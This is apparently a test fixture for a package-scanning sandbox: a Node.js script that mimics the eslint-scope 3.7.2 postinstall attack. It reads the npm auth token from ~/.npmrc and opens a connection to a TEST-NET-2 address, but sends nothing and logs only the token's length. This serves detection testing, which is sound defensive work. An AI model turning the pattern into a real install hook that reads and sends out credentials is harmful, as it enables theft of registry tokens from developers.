// Simulates a token-stealing postinstall (the eslint-scope 3.7.2 pattern),
// harmlessly: it reads the token of $HOME/.npmrc (in the sandbox the job's
// own home, a worthless canary; if there is no file it writes a FAKE token
// first), and opens a TCP connection to 198.51.100.23:443, a TEST-NET-2
// address only the sandbox's own sinkhole answers (offline: no route).
// Nothing is ever sent.
'use strict';
const fs = require('fs');
const net = require('net');
const os = require('os');
const path = require('path');

const npmrc = path.join(os.homedir(), '.npmrc');
if (!fs.existsSync(npmrc))
  fs.writeFileSync(npmrc, '//registry.npmjs.org/:_authToken=npm_FAKE0scanfarm0tree0token000000000000\n');
const token = (fs.readFileSync(npmrc, 'utf8').match(/_authToken=(\S+)/) || [])[1] || '';
console.log(`sf-tree-leaf: read a token of ${token.length} characters`);
const s = net.connect({ host: '198.51.100.23', port: 443 });
s.setTimeout(3000, () => s.destroy());
s.on('connect', () => s.destroy());
s.on('error', (e) => console.log(`sf-tree-leaf: connect ${e.code}`));
s.on('close', () => process.exit(0));
